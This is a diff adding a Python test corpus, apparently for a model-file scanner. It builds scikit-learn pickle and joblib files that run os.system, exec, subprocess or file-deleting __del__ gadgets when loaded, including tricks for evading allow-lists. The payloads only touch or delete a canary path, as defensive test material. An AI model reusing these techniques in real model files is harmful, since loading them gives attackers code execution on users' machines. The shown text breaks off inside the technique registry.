@@ -1,0 +1,1137 @@
+"""Hostile corpus: real fitted scikit-learn models that carry code-execution payloads.
+
+Every entry of :data:`TECHNIQUES` writes one model file. Loading that file with plain
+``joblib.load`` (``loader="joblib"``) or ``pickle.load`` (``loader="pickle"``) runs a payload
+that creates the *canary* file (``effect="create"``) or, for destructive gadgets, deletes the
+canary directory the test prepared (``effect="delete"``); hpinspect must report it without
+running it.
+
+Nothing here is ever committed as a binary: the files are generated inside the tests (in
+``tmp_path``). Building a file never executes its payload.
+
+Two ways of producing payloads are used:
+
+* :class:`Call` -- a pickling recipe. ``Call(f, *args)`` pickles as ``REDUCE(f, args)``, so the
+  unpickler calls ``f(*args)``. Recipes nest: ``Call(Call(getattr, m, "system"), cmd)``.
+  The file never refers to this module, so loading needs nothing but the standard library,
+  numpy, scikit-learn and joblib.
+* hand-written opcode fragments (``op_*`` helpers) spliced into the pickle stream of a real
+  model in place of a placeholder attribute value (:func:`splice_fragment`). The placeholder
+  is sized so that the fragment has exactly the same length as the placeholder's opcode, which
+  keeps protocol-4 frame lengths and joblib's array alignment padding valid. Each fragment
+  pushes exactly one object, which becomes the attribute's value when the model is loaded.
+"""
+
+from __future__ import annotations
+
+import copy
+import functools
+import importlib
+import io
+import marshal
+import operator
+import os
+import pickle
+import pickletools
+import pkgutil
+import pydoc
+import runpy
+import shlex
+import struct
+import subprocess
+import sys
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any, Literal, NoReturn
+
+import joblib
+import numpy as np
+from numpy.testing._private import utils as np_testing_utils
+from sklearn.datasets import make_classification
+from sklearn.ensemble import RandomForestClassifier
+from sklearn.linear_model import LogisticRegression
+from sklearn.pipeline import Pipeline
+from sklearn.preprocessing import StandardScaler
+
+__all__ = [
+    "ATTR",
+    "TECHNIQUES",
+    "Call",
+    "Effect",
+    "Loader",
+    "Technique",
+    "fresh_model",
+    "splice_fragment",
+]
+
+Loader = Literal["joblib", "pickle"]
+Effect = Literal["create", "delete"]
+ModelKind = Literal["logreg", "forest", "pipeline"]
+BuildFn = Callable[[Path, Path], Path]
+
+#: Name of the attribute that carries the payload on the victim estimator.
+ATTR = "calibration_notes_"
+
+#: Acceptable spellings of ``os.system`` (pickles as ``posix.system`` on Linux).
+OS_SYSTEM: tuple[str, ...] = ("posix.system", "os.system")
+
+
+@dataclass(frozen=True)
+class Technique:
+    """One way of smuggling a payload into a model file.
+
+    ``build(directory, canary)`` writes the hostile file into ``directory`` (it chooses the
+    file name, so mislabelled extensions can be exercised) and returns its path. Loading the
+    file with ``loader`` creates ``canary`` (a file, or for a few write primitives a
+    directory); with ``effect="delete"`` the caller creates ``canary`` as a non-empty
+    directory after building, and loading deletes it. ``expected_globals`` lists acceptable
+    names for the global a scanner must report with one of ``severities`` (any one of them is
+    enough).
+    """
+
+    name: str
+    build: BuildFn
+    expected_globals: tuple[str, ...]
+    loader: Loader
+    compression: str | None = None
+    description: str = ""
+    severities: tuple[str, ...] = ("dangerous",)
+    """Acceptable severities for the expected finding (``"dangerous"`` unless stated)."""
+    effect: Effect = "create"
+
+
+# --------------------------------------------------------------------------------------------
+# Victim models (fitted once per process, deep-copied for each file)
+
+
+@functools.lru_cache(maxsize=1)
+def _training_data() -> tuple[np.ndarray, np.ndarray]:
+    features, target = make_classification(
+        n_samples=60, n_features=6, n_informative=3, random_state=0
+    )
+    return features, target
+
+
+@functools.cache
+def _fitted(kind: ModelKind) -> Any:
+    features, target = _training_data()
+    model: Any
+    if kind == "logreg":
+        model = LogisticRegression(max_iter=200)
+    elif kind == "forest":
+        model = RandomForestClassifier(n_estimators=3, max_depth=3, random_state=0)
+    else:
+        model = Pipeline([("scaler", StandardScaler()), ("clf", LogisticRegression(max_iter=200))])
+    return model.fit(features, target)
+
+
+def fresh_model(kind: ModelKind) -> Any:
+    """A private deep copy of a small fitted model of the given kind."""
+    return copy.deepcopy(_fitted(kind))
+
+
+# --------------------------------------------------------------------------------------------
+# Payload commands
+
+
+def _shell_cmd(canary: Path) -> str:
+    return f"touch {shlex.quote(str(canary))}"
+
+
+def _argv(canary: Path) -> list[str]:
+    return ["touch", str(canary)]
+
+
+def _py_code(canary: Path) -> str:
+    """A Python expression (also valid as a statement) that creates the canary."""
+    return f"open({str(canary)!r}, 'w').close()"
+
+
+# --------------------------------------------------------------------------------------------
+# Pickling recipes
+
+
+class Call:
+    """Pickles as ``REDUCE(func, args)``: the unpickler calls ``func(*args)``.
+
+    ``func`` and ``args`` may themselves be :class:`Call` recipes. Instances are callable only
+    so that the pickler accepts one as the callable of another recipe.
+    """
+
+    def __init__(self, func: object, *args: object) -> None:
+        self.func = func
+        self.args = args
+
+    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
+        return (self.func, self.args)
+
+    def __call__(self, *args: object, **kwargs: object) -> NoReturn:
+        raise TypeError("Call is a pickling recipe, not a callable")
+
+
+# --------------------------------------------------------------------------------------------
+# Opcode assembler (no memo opcodes unless stated, so fragments never clash with the host memo)
+
+
+def op_text_str(value: str) -> bytes:
+    """UNICODE (protocol 0 text opcode)."""
+    escaped = (
+        value.replace("\\", "\\u005c")
+        .replace("\0", "\\u0000")
+        .replace("\n", "\\u000a")
+        .replace("\r", "\\u000d")
+        .replace("\x1a", "\\u001a")
+    )
+    return b"V" + escaped.encode("raw-unicode-escape") + b"\n"
+
+
+def op_str(value: str) -> bytes:
+    """BINUNICODE."""
+    data = value.encode("utf-8")
+    return b"X" + struct.pack("<I", len(data)) + data
+
+
+def op_bytes(value: bytes) -> bytes:
+    """BINBYTES."""
+    return b"B" + struct.pack("<I", len(value)) + value
+
+
+def op_int(value: int) -> bytes:
+    """BININT or LONG1."""
+    if -(2**31) <= value < 2**31:
+        return b"J" + struct.pack("<i", value)
+    data = value.to_bytes((value.bit_length() >> 3) + 1, "little", signed=True)
+    return b"\x8a" + bytes([len(data)]) + data
+
+
+def op_lit(value: object) -> bytes:
+    """Push a literal built only from None/bool/int/str/bytes/tuple/list/dict."""
+    if value is None:
+        return b"N"
+    if isinstance(value, bool):
+        return b"\x88" if value else b"\x89"
+    if isinstance(value, int):
+        return op_int(value)
+    if isinstance(value, str):
+        return op_str(value)
+    if isinstance(value, bytes):
+        return op_bytes(value)
+    if isinstance(value, tuple):
+        return b"(" + b"".join(op_lit(item) for item in value) + b"t"
+    if isinstance(value, list):
+        return b"](" + b"".join(op_lit(item) for item in value) + b"e"
+    if isinstance(value, dict):
+        body = b"".join(op_lit(k) + op_lit(v) for k, v in value.items())
+        return b"}(" + body + b"u"
+    raise TypeError(f"op_lit cannot encode {type(value).__name__}")
+
+
+def op_global(module: str, name: str) -> bytes:
+    """GLOBAL (protocol 0 text opcode)."""
+    return b"c" + module.encode("ascii") + b"\n" + name.encode("ascii") + b"\n"
+
+
+def op_stack_global(module: str, name: str) -> bytes:
+    """STACK_GLOBAL (protocol 4)."""
+    return op_str(module) + op_str(name) + b"\x93"
+
+
+def op_tuple(*items: bytes) -> bytes:
+    """MARK ... TUPLE."""
+    return b"(" + b"".join(items) + b"t"
+
+
+def op_call(func: bytes, *args: bytes) -> bytes:
+    """``func(*args)`` via REDUCE."""
+    return func + op_tuple(*args) + b"R"
+
+
+def check_fragment(fragment: bytes) -> None:
+    """Statically check (never executing anything) that a fragment pushes exactly one object."""
+    pickletools.dis(b"\x80\x04" + fragment + b".", out=io.StringIO())
+
+
+# --------------------------------------------------------------------------------------------
+# Splicing fragments into real model pickles
+
+_PLACEHOLDER_PREFIX = "HPINSPECT-HOSTILE-SLOT:"
+
+
+def _str_opcode(value: str, protocol: int) -> bytes:
+    """The exact bytes the pure-Python pickler writes for a short ASCII ``str``."""
+    if protocol == 0:
+        return op_text_str(value)
+    data = value.encode("utf-8")
+    if protocol >= 4 and len(data) <= 0xFF:
+        return b"\x8c" + bytes([len(data)]) + data
+    return op_str(value)
+
+
+def _placeholder_for(fragment: bytes, protocol: int) -> tuple[str, bytes]:
+    """A placeholder whose pickled opcode has the fragment's length (padding it if needed)."""
+    for padding in range(8):
+        padded = fragment + b"N0" * padding  # NONE, POP: a no-op pair
+        for overhead in (2, 5):
+            length = len(padded) - overhead
+            if length < len(_PLACEHOLDER_PREFIX):
+                continue
+            placeholder = _PLACEHOLDER_PREFIX + "#" * (length - len(_PLACEHOLDER_PREFIX))
+            if len(_str_opcode(placeholder, protocol)) == len(padded):
+                return placeholder, padded
+    raise ValueError(f"cannot size a placeholder for a {len(fragment)}-byte fragment")
+
+
+def splice_fragment(stream: bytes, placeholder: str, fragment: bytes, protocol: int) -> bytes:
+    """Replace the opcode that pushes ``placeholder`` by ``fragment`` (same length)."""
+    marker = _str_opcode(placeholder, protocol)
+    if len(marker) != len(fragment):
+        raise ValueError("fragment and placeholder opcode differ in length")
+    count = stream.count(marker)
+    if count != 1:
+        raise ValueError(f"placeholder opcode found {count} times, expected once")
+    return stream.replace(marker, fragment)
+
+
+Container = Literal["joblib", "pickle"]
+
+
+def _write(path: Path, data: bytes) -> Path:
+    path.write_bytes(data)
+    return path
+
+
+def _spliced_model_file(
+    path: Path,
+    fragment: bytes,
+    *,
+    container: Container,
+    protocol: int,
+    model: Any | None = None,
+    after_array: np.ndarray | None = None,
+) -> Path:
+    """Write ``model`` (default: a fitted LogisticRegression) with ``fragment`` as ``ATTR``.
+
+    With ``after_array``, that array is stored as an attribute first and the fragment is
+    checked to sit after the array's raw bytes in the file.
+    """
+    check_fragment(fragment)
+    victim = fresh_model("logreg") if model is None else model
+    if after_array is not None:
+        victim.coef_path_ = after_array
+    placeholder, padded = _placeholder_for(fragment, protocol)
+    setattr(victim, ATTR, placeholder)
+    if container == "joblib":
+        joblib.dump(victim, path, protocol=protocol)
+        stream = path.read_bytes()
+    else:
+        stream = pickle.dumps(victim, protocol=protocol)
+    result = splice_fragment(stream, placeholder, padded, protocol)
+    if after_array is not None:
+        _require_after(result, padded, after_array)
+    return _write(path, result)
+
+
+def _require_after(stream: bytes, needle: bytes, array: np.ndarray) -> None:
+    array_at = stream.find(array[:4].tobytes())
+    needle_at = stream.find(needle)
+    if not 0 <= array_at < needle_at:
+        raise AssertionError("payload is not stored after the large array")
+    if needle_at - array_at < array.nbytes:
+        raise AssertionError("large array bytes are not written inline before the payload")
+
+
+def _large_array() -> np.ndarray:
+    """A 2 MiB float64 coefficient-like array."""
+    return np.random.default_rng(0).standard_normal(262_144)
+
+
+def _with_payload(kind: ModelKind, payload: object) -> Any:
+    model = fresh_model(kind)
+    setattr(model, ATTR, payload)
+    return model
+
+
+# --------------------------------------------------------------------------------------------
+# Protocols 0, 2, 4, 5 (plain pickle files, payload as an attribute of the estimator)
+
+
+def build_proto0_os_system(directory: Path, canary: Path) -> Path:
+    model = _with_payload("logreg", Call(os.system, _shell_cmd(canary)))
+    return _write(directory / "model.pkl", pickle.dumps(model, protocol=0))
+
+
+def build_proto2_py2_builtin_exec(directory: Path, canary: Path) -> Path:
+    # Protocol 2 uses Python 2 names: builtins.exec is written as ``__builtin__ exec``.
+    model = _with_payload("forest", Call(exec, _py_code(canary)))
+    return _write(directory / "model.pkl", pickle.dumps(model, protocol=2))
+
+
+def build_proto4_subprocess_check_call(directory: Path, canary: Path) -> Path:
+    model = _with_payload("logreg", Call(subprocess.check_call, _argv(canary)))
+    return _write(directory / "model.pkl", pickle.dumps(model, protocol=4))
+
+
+def build_proto5_eval_with_buffers(directory: Path, canary: Path) -> Path:
+    # Protocol 5: the forest's node arrays travel as in-band PickleBuffers (BYTEARRAY8).
+    model = _with_payload("forest", Call(eval, _py_code(canary)))
+    return _write(directory / "model.pkl", pickle.dumps(model, protocol=5))
+
+
+# --------------------------------------------------------------------------------------------
+# Hand-written opcode streams spliced into real model pickles
+
+
+def build_opcode_global_protocol0(directory: Path, canary: Path) -> Path:
+    # GLOBAL 'os system' MARK UNICODE TUPLE REDUCE, inside a protocol-0 (text) model pickle.
+    fragment = op_global("os", "system") + b"(" + op_text_str(_shell_cmd(canary)) + b"tR"
+    return _spliced_model_file(directory / "model.pkl", fragment, container="pickle", protocol=0)
+
+
+def build_opcode_stack_global_exec(directory: Path, canary: Path) -> Path:
+    fragment = op_call(op_stack_global("builtins", "exec"), op_str(_py_code(canary)))
+    return _spliced_model_file(directory / "model.joblib", fragment, container="joblib", protocol=4)
+
+
+def build_opcode_inst_subprocess_call(directory: Path, canary: Path) -> Path:
+    # INST calls a non-class "class" with the marked arguments: subprocess.call([...]).
+    fragment = b"(" + op_lit(_argv(canary)) + b"isubprocess\ncall\n"
+    return _spliced_model_file(directory / "model.pkl", fragment, container="pickle", protocol=2)
+
+
+def build_opcode_obj_os_system(directory: Path, canary: Path) -> Path:
+    # OBJ: MARK callable args... OBJ  ->  os.system(cmd).
+    fragment = b"(" + op_global("os", "system") + op_str(_shell_cmd(canary)) + b"o"
+    return _spliced_model_file(directory / "model.joblib", fragment, container="joblib", protocol=4)
+
+
+def build_opcode_newobj_marshal_function(directory: Path, canary: Path) -> Path:
+    # code = marshal.loads(b"...");  f = FunctionType.__new__(FunctionType, code, {})  (NEWOBJ);
+    # f()  (REDUCE).
+    code = compile(_py_code(canary), "<calibration>", "exec")
+    code_obj = op_call(op_global("marshal", "loads"), op_bytes(marshal.dumps(code)))
+    function = op_global("types", "FunctionType") + op_tuple(code_obj, b"}") + b"\x81"
+    fragment = op_call(function)
+    return _spliced_model_file(directory / "model.joblib", fragment, container="joblib", protocol=4)
+
+
+def _codetype_args(code: Any) -> tuple[object, ...]:
+    if sys.version_info >= (3, 11):
+        return (
+            code.co_argcount,
+            code.co_posonlyargcount,
+            code.co_kwonlyargcount,
+            code.co_nlocals,
+            code.co_stacksize,
+            code.co_flags,
+            code.co_code,
+            code.co_consts,
+            code.co_names,
+            code.co_varnames,
+            code.co_filename,
+            code.co_name,
+            code.co_qualname,
+            code.co_firstlineno,
+            code.co_linetable,
+            code.co_exceptiontable,
+            code.co_freevars,
+            code.co_cellvars,
+        )
+    return (  # pragma: no cover - Python 3.10
+        code.co_argcount,
+        code.co_posonlyargcount,
+        code.co_kwonlyargcount,
+        code.co_nlocals,
+        code.co_stacksize,
+        code.co_flags,
+        code.co_code,
+        code.co_consts,
+        code.co_names,
+        code.co_varnames,
+        code.co_filename,
+        code.co_name,
+        code.co_firstlineno,
+        code.co_linetable,
+        code.co_freevars,
+        code.co_cellvars,
+    )
+
+
+def build_opcode_newobj_ex_codetype(directory: Path, canary: Path) -> Path:
+    # code = types.CodeType(...literal fields...);
+    # f = FunctionType.__new__(FunctionType, code, {}, name="calibrate")  (NEWOBJ_EX);  f().
+    code = compile(_py_code(canary), "<calibration>", "exec")
+    fields = [op_lit(field) for field in _codetype_args(code)]
+    code_obj = op_call(op_global("types", "CodeType"), *fields)
+    function = (
+        op_global("types", "FunctionType")
+        + op_tuple(code_obj, b"}")
+        + op_lit({"name": "calibrate"})
+        + b"\x92"
+    )
+    fragment = op_call(function)
+    return _spliced_model_file(directory / "model.pkl", fragment, container="pickle", protocol=4)
+
+
+def build_opcode_build_setstate_hijack(directory: Path, canary: Path) -> Path:
+    # ns = SimpleNamespace.__new__(SimpleNamespace)          NEWOBJ
+    # BUILD {"__setstate__": os.system}   -> ns.__dict__["__setstate__"] = os.system
+    # BUILD "touch canary"                -> getattr(ns, "__setstate__")("touch canary")
+    namespace = op_global("types", "SimpleNamespace") + b")\x81"
+    hijack = b"}" + op_str("__setstate__") + op_global("os", "system") + b"s" + b"b"
+    fire = op_str(_shell_cmd(canary)) + b"b"
+    fragment = namespace + hijack + fire
+    return _spliced_model_file(directory / "model.joblib", fragment, container="joblib", protocol=4)
+
+
+def build_opcode_getattr_import_chain(directory: Path, canary: Path) -> Path:
+    # getattr(__import__("os"), "system")("touch canary")
+    module = op_call(op_global("builtins", "__import__"), op_str("os"))
+    system = op_call(op_global("builtins", "getattr"), module, op_str("system"))
+    fragment = op_call(system, op_str(_shell_cmd(canary)))
+    return _spliced_model_file(directory / "model.joblib", fragment, container="joblib", protocol=4)
+
+
+def build_opcode_memo_indirection_eval(directory: Path, canary: Path) -> Path:
+    # builtins.eval is stored in the memo under a far-away key, popped, and fetched back with
+    # LONG_BINGET right before the call: the callable is not adjacent to its REDUCE.
+    key = struct.pack("<I", 40_000)
+    stash = op_global("builtins", "eval") + b"r" + key + b"0"
+    fragment = stash + op_call(b"j" + key, op_str(_py_code(canary)))
+    # Protocol 2 uses explicit BINPUT indices, so a far-away memo key never collides.
+    return _spliced_model_file(directory / "model.pkl", fragment, container="pickle", protocol=2)
+
+
+def build_opcode_dotted_name_in_sklearn_module(directory: Path, canary: Path) -> Path:
+    # Protocol 4 find_class resolves dotted names: sklearn.datasets._base + "os.system" is
+    # os.system, reached through a module a naive allow-list would trust.
+    fragment = op_call(
+        op_stack_global("sklearn.datasets._base", "os.system"), op_str(_shell_cmd(canary))
+    )
+    return _spliced_model_file(directory / "model.joblib", fragment, container="joblib", protocol=4)
+
+
+def build_opcode_copyreg_reconstructor_popen(directory: Path, canary: Path) -> Path:
+    # copyreg._reconstructor(Popen, Popen, argv) runs Popen.__init__(obj, argv); then .wait().
+    popen = op_global("subprocess", "Popen")
+    process = op_call(op_global("copyreg", "_reconstructor"), popen, popen, op_lit(_argv(canary)))
+    wait = op_call(op_global("builtins", "getattr"), process, op_str("wait"))
+    fragment = op_call(wait)
+    return _spliced_model_file(directory / "model.joblib", fragment, container="joblib", protocol=4)
+
+
+def build_opcode_methodcaller_sys_modules(directory: Path, canary: Path) -> Path:
+    # methodcaller("system", cmd)(methodcaller("get", "os")(sys.modules)) -- no import call.
+    caller = op_global("operator", "methodcaller")
+    os_module = op_call(op_call(caller, op_str("get"), op_str("os")), op_global("sys", "modules"))
+    fragment = op_call(op_call(caller, op_str("system"), op_str(_shell_cmd(canary))), os_module)
+    return _spliced_model_file(directory / "model.joblib", fragment, container="joblib", protocol=4)
+
+
+def build_opcode_attrgetter_os_path(directory: Path, canary: Path) -> Path:
+    # attrgetter("os.system")(os.path)(cmd): the module object comes from GLOBAL 'os path'.
+    getter = op_call(op_global("operator", "attrgetter"), op_str("os.system"))
+    system = op_call(getter, op_global("os", "path"))
+    fragment = op_call(system, op_str(_shell_cmd(canary)))
+    return _spliced_model_file(directory / "model.pkl", fragment, container="pickle", protocol=3)
+
+
+# --------------------------------------------------------------------------------------------
+# Payloads after large arrays (joblib writes array bytes inline, outside pickle opcodes)
+
+
+def build_after_large_array_reduce(directory: Path, canary: Path) -> Path:
+    model = fresh_model("logreg")
+    big = _large_array()
+    model.coef_path_ = big
+    setattr(model, ATTR, Call(os.system, _shell_cmd(canary)))
+    path = directory / "model.joblib"
+    joblib.dump(model, path)
+    _require_after(path.read_bytes(), b"posix", big)
+    return path
+
+
+def build_after_large_array_opcodes(directory: Path, canary: Path) -> Path:
+    fragment = op_call(op_global("posix", "system"), op_str(_shell_cmd(canary)))
+    return _spliced_model_file(
+        directory / "model.joblib",
+        fragment,
+        container="joblib",
+        protocol=4,
+        after_array=_large_array(),
+    )
+
+
+# --------------------------------------------------------------------------------------------
+# Every compression joblib supports
+
+
+def _compressed(directory: Path, filename: str, model: Any, method: str) -> Path:
+    path = directory / filename
+    joblib.dump(model, path, compress=(method, 3))
+    return path
+
+
+def build_joblib_zlib_exec(directory: Path, canary: Path) -> Path:
+    model = _with_payload("forest", Call(exec, _py_code(canary)))
+    return _compressed(directory, "model.joblib", model, "zlib")
+
+
+def build_joblib_gzip_subprocess_run(directory: Path, canary: Path) -> Path:
+    model = _with_payload("logreg", Call(subprocess.run, _argv(canary)))
+    return _compressed(directory, "model.joblib", model, "gzip")
+
+
+def build_joblib_bz2_os_system(directory: Path, canary: Path) -> Path:
+    model = _with_payload("logreg", Call(os.system, _shell_cmd(canary)))
+    return _compressed(directory, "model.joblib", model, "bz2")
+
+
+def build_joblib_xz_eval(directory: Path, canary: Path) -> Path:
+    model = _with_payload("logreg", Call(eval, _py_code(canary)))
+    return _compressed(directory, "model.joblib", model, "xz")
+
+
+def build_joblib_lzma_runpy(directory: Path, canary: Path) -> Path:
+    run_code = getattr(runpy, "_run_code")  # private, not in the stubs  # noqa: B009
+    model = _with_payload("logreg", Call(run_code, _py_code(canary), {}))
+    return _compressed(directory, "model.joblib", model, "lzma")
+
+
+def build_joblib_lz4_partial(directory: Path, canary: Path) -> Path:
+    # functools.partial(os.system, cmd)()
+    payload = Call(Call(functools.partial, os.system, _shell_cmd(canary)))
+    model = _with_payload("logreg", payload)
+    return _compressed(directory, "model.joblib", model, "lz4")
+
+
+# --------------------------------------------------------------------------------------------
+# Mislabelled extensions
+
+
+def build_mislabelled_gzip_joblib_as_pkl(directory: Path, canary: Path) -> Path:
+    # pydoc.locate("os.system")(cmd), in a gzip-compressed joblib file named model.pkl.
+    payload = Call(Call(pydoc.locate, "os.system"), _shell_cmd(canary))
+    return _compressed(directory, "model.pkl", _with_payload("logreg", payload), "gzip")
+
+
+def build_mislabelled_pickle_as_joblib(directory: Path, canary: Path) -> Path:
+    # pkgutil.resolve_name("os:system")(cmd), in a plain pickle named model.joblib.
+    payload = Call(Call(pkgutil.resolve_name, "os:system"), _shell_cmd(canary))
+    model = _with_payload("logreg", payload)
+    return _write(directory / "model.joblib", pickle.dumps(model, protocol=4))
+
+
+def build_no_extension_zlib_import_module(directory: Path, canary: Path) -> Path:
+    # getattr(importlib.import_module("os"), "system")(cmd), zlib joblib without extension.
+    module = Call(importlib.import_module, "os")
+    payload = Call(Call(getattr, module, "system"), _shell_cmd(canary))
+    return _compressed(directory, "model", _with_payload("logreg", payload), "zlib")
+
+
+# --------------------------------------------------------------------------------------------
+# Object arrays and top-level bundles
+
+
+def build_object_array_nested_pickle(directory: Path, canary: Path) -> Path:
+    # joblib writes object-dtype arrays as a nested protocol-5 pickle inside its stream.
+    notes = np.empty(3, dtype=object)
+    notes[0] = "feature_a"
+    notes[1] = Call(exec, _py_code(canary))
+    notes[2] = 3
+    model = fresh_model("logreg")
+    model.feature_notes_ = notes
+    path = directory / "model.joblib"
+    joblib.dump(model, path)
+    return path
+
+
+def build_dict_bundle(directory: Path, canary: Path) -> Path:
+    bundle = {
+        "model": fresh_model("forest"),
+        "meta": {"author": "data-team", "notes": Call(os.system, _shell_cmd(canary))},
+    }
+    path = directory / "bundle.joblib"
+    joblib.dump(bundle, path)
+    return path
+
+
+def build_tuple_bundle_open(directory: Path, canary: Path) -> Path:
+    # (model, open(canary, "w")) -- pickles as ``io open``.
+    bundle = (fresh_model("logreg"), Call(open, str(canary), "w"))
+    return _write(directory / "bundle.pkl", pickle.dumps(bundle, protocol=4))
+
+
+# --------------------------------------------------------------------------------------------
+# Nested pickles, deep nesting, allow-listed-module callables
+
+
+def build_nested_pickle_loads(directory: Path, canary: Path) -> Path:
+    inner = pickle.dumps(Call(os.system, _shell_cmd(canary)), protocol=2)
+    model = _with_payload("logreg", Call(pickle.loads, inner))
+    path = directory / "model.joblib"
+    joblib.dump(model, path)
+    return path
+
+
+def build_pipeline_nested_step_popen(directory: Path, canary: Path) -> Path:
+    # Only reachable through Pipeline.steps[1][1]: subprocess.Popen(argv).wait()
+    pipeline = fresh_model("pipeline")
+    process = Call(subprocess.Popen, _argv(canary))
+    setattr(pipeline.named_steps["clf"], ATTR, Call(Call(getattr, process, "wait")))
+    path = directory / "pipeline.joblib"
+    joblib.dump(pipeline, path)
+    return path
+
+
+def build_forest_member_compile_exec(directory: Path, canary: Path) -> Path:
+    # exec(compile(src, ...)) on the second tree of a random forest.
+    forest = fresh_model("forest")
+    code = Call(compile, _py_code(canary), "<calibration>", "exec")
+    setattr(forest.estimators_[1], ATTR, Call(exec, code))
+    path = directory / "forest.joblib"
+    joblib.dump(forest, path)
+    return path
+
+
+def build_numpy_testing_runstring(directory: Path, canary: Path) -> Path:
+    # numpy.testing._private.utils.runstring(src, {}) is exec() inside an allow-listed package.
+    payload = Call(np_testing_utils.runstring, _py_code(canary), {})
+    model = _with_payload("logreg", payload)
+    path = directory / "model.joblib"
+    joblib.dump(model, path)
+    return path
+
+
+def build_joblib_protocol2_commands_popen(directory: Path, canary: Path) -> Path:
+    # joblib with protocol 2 writes Python 2 names: subprocess.Popen becomes ``commands Popen``.
+    process = Call(subprocess.Popen, _argv(canary))
+    model = _with_payload("logreg", Call(Call(getattr, process, "wait")))
+    path = directory / "model.joblib"
+    joblib.dump(model, path, protocol=2)
+    return path
+
+
+def build_operator_methodcaller_recipe(directory: Path, canary: Path) -> Path:
+    # methodcaller("system", cmd)(__import__("os")), pickled by joblib's own pickler.
+    caller = Call(operator.methodcaller, "system", _shell_cmd(canary))
+    payload = Call(caller, Call(__import__, "os"))
+    model = _with_payload("forest", payload)
+    path = directory / "model.joblib"
+    joblib.dump(model, path, compress=("zlib", 1))
+    return path
+
+
+# --------------------------------------------------------------------------------------------
+# Gadgets made only of names a scikit-learn allow-list trusts, and a __del__ gadget
+# (their expected finding may be "dangerous" or "unknown call": what matters is exit code 3)
+
+
+def build_sklearn_funcwrapper_dotted_os_system(directory: Path, canary: Path) -> Path:
+    # _FuncWrapper(<sklearn.datasets._base + "os.system">)(cmd): the wrapper, a known sklearn
+    # class, makes the call; os.system itself is only *referenced* through a dotted name.
+    wrapper = op_call(
+        op_stack_global("sklearn.utils.parallel", "_FuncWrapper"),
+        op_stack_global("sklearn.datasets._base", "os.system"),
+    )
+    fragment = op_call(wrapper, op_str(_shell_cmd(canary)))
+    return _spliced_model_file(directory / "model.joblib", fragment, container="joblib", protocol=4)
+
+
+def build_sklearn_parallel_run_python_script(directory: Path, canary: Path) -> Path:
+    # Parallel()([(assert_run_python_script_without_output, (src,), {})]) runs Python source in
+    # a child interpreter. Every global is a scikit-learn name.
+    from sklearn.utils._testing import assert_run_python_script_without_output
+    from sklearn.utils.parallel import Parallel
+
+    task: tuple[object, tuple[str], dict[str, object]] = (
+        assert_run_python_script_without_output,
+        (_py_code(canary),),
+        {},
+    )
+    payload = Call(Call(Parallel), [task])
+    path = directory / "model.joblib"
+    joblib.dump(_with_payload("logreg", payload), path)
+    return path
+
+
+def build_sklearn_funcwrapper_get_data_home_mkdir(directory: Path, canary: Path) -> Path:
+    # _FuncWrapper(get_data_home)(canary) -> os.makedirs(canary): the canary is a directory.
+    from sklearn.datasets import get_data_home
+    from sklearn.utils.parallel import _FuncWrapper
+
+    payload = Call(Call(_FuncWrapper, get_data_home), str(canary))
+    path = directory / "model.joblib"
+    joblib.dump(_with_payload("logreg", payload), path)
+    return path
+
+
+def build_joblib_memory_location_mkdir(directory: Path, canary: Path) -> Path:
+    # joblib.Memory(location) creates the cache directory (a real pickled Memory never calls
+    # __init__; this file does): the canary is a directory.
+    payload = Call(joblib.Memory, str(canary))
+    return _write(
+        directory / "model.pkl", pickle.dumps(_with_payload("logreg", payload), protocol=4)
+    )
+
+
+def build_dbm_dumb_del_gadget(directory: Path, canary: Path) -> Path:
+    # NEWOBJ dbm.dumb._Database (no __init__) + BUILD state. When the loaded model is garbage
+    # collected, _Database.__del__ -> _commit() unlinks _bakfile, renames _dirfile and writes
+    # _dirfile: arbitrary file deletion and creation, with no call in the pickle at all.
+    state = {
+        "_index": {},
+        "_modified": True,
+        "_dirfile": str(canary),
+        "_bakfile": str(canary) + ".bak",
+        "_mode": 0o644,
+    }
+    fragment = op_stack_global("dbm.dumb", "_Database") + b")\x81" + op_lit(state) + b"b"
+    return _spliced_model_file(directory / "model.joblib", fragment, container="joblib", protocol=4)
+
+
+def build_numpy_datasource_del_rmtree(directory: Path, canary: Path) -> Path:
+    # NEWOBJ numpy.lib._datasource.DataSource (no __init__) + BUILD
+    # {"_istmpdest": True, "_destpath": canary}: DataSource.__del__ runs shutil.rmtree(canary)
+    # when the loaded model is garbage collected. Destructive: the canary directory vanishes.
+    state = {"_istmpdest": True, "_destpath": str(canary)}
+    fragment = (
+        op_stack_global("numpy.lib._datasource", "DataSource") + b")\x81" + op_lit(state) + b"b"
+    )
+    return _spliced_model_file(directory / "model.joblib", fragment, container="joblib", protocol=4)
+
+
+# --------------------------------------------------------------------------------------------
+# Registry
+
+EXEC: tuple[str, ...] = ("builtins.exec", "__builtin__.exec")
+EVAL: tuple[str, ...] = ("builtins.eval", "__builtin__.eval")
+POPEN: tuple[str, ...] = ("subprocess.Popen", "commands.Popen")
+CALL_SEVERITIES: tuple[str, ...] = ("dangerous", "unknown call")
+
+TECHNIQUES: list[Technique] = [
+    Technique(
+        "proto0_os_system",
+        build_proto0_os_system,
+        OS_SYSTEM,
+        "pickle",
+        description="protocol 0 pickle, __reduce__ -> os.system",
+    ),
+    Technique(
+        "proto2_py2_builtin_exec",
+        build_proto2_py2_builtin_exec,
+        EXEC,
+        "pickle",
+        description="protocol 2 pickle of a forest, exec written as __builtin__.exec",
+    ),
+    Technique(
+        "proto4_subprocess_check_call",
+        build_proto4_subprocess_check_call,
+        ("subprocess.check_call",),
+        "pickle",
+        description="protocol 4 pickle, subprocess.check_call(argv)",
+    ),
+    Technique(
+        "proto5_eval_with_buffers",
+        build_proto5_eval_with_buffers,
+        EVAL,
+        "pickle",
+        description="protocol 5 pickle (BYTEARRAY8 buffers), builtins.eval",
+    ),
+    Technique(
+        "opcode_global_protocol0",
+        build_opcode_global_protocol0,
+        OS_SYSTEM,
+        "pickle",
+        description="GLOBAL os.system + REDUCE spliced into a protocol 0 model pickle",
+    ),
+    Technique(
+        "opcode_stack_global_exec",
+        build_opcode_stack_global_exec,
+        EXEC,
+        "joblib",
+        description="STACK_GLOBAL builtins.exec + REDUCE spliced into a joblib file",
+    ),
+    Technique(
+        "opcode_inst_subprocess_call",
+        build_opcode_inst_subprocess_call,
+        ("subprocess.call",),
+        "pickle",
+        description="INST subprocess.call(argv) in a protocol 2 pickle",
+    ),
+    Technique(
